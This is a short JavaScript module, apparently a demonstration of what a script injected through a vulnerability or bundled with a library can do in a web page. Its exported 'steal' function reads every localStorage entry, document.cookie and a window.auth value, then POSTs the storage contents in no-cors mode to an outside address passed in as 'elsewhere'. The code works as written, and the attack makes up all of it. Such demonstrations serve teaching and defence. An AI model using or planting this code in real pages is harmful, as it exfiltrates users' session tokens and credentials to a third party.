// What a script does that came in through a hole, or with a library. It runs with all that the page may do.
export async function steal(elsewhere, loot) {
  loot("localStorage", JSON.stringify({ ...localStorage }));
  loot("document.cookie", document.cookie);
  loot("window.auth", String(window.auth));
  try {
    await fetch(elsewhere, { method: "POST", mode: "no-cors", body: JSON.stringify({ ...localStorage }) });
    loot("sent to", elsewhere);
  } catch (error) {
    loot("not sent", error.message);
  }
}
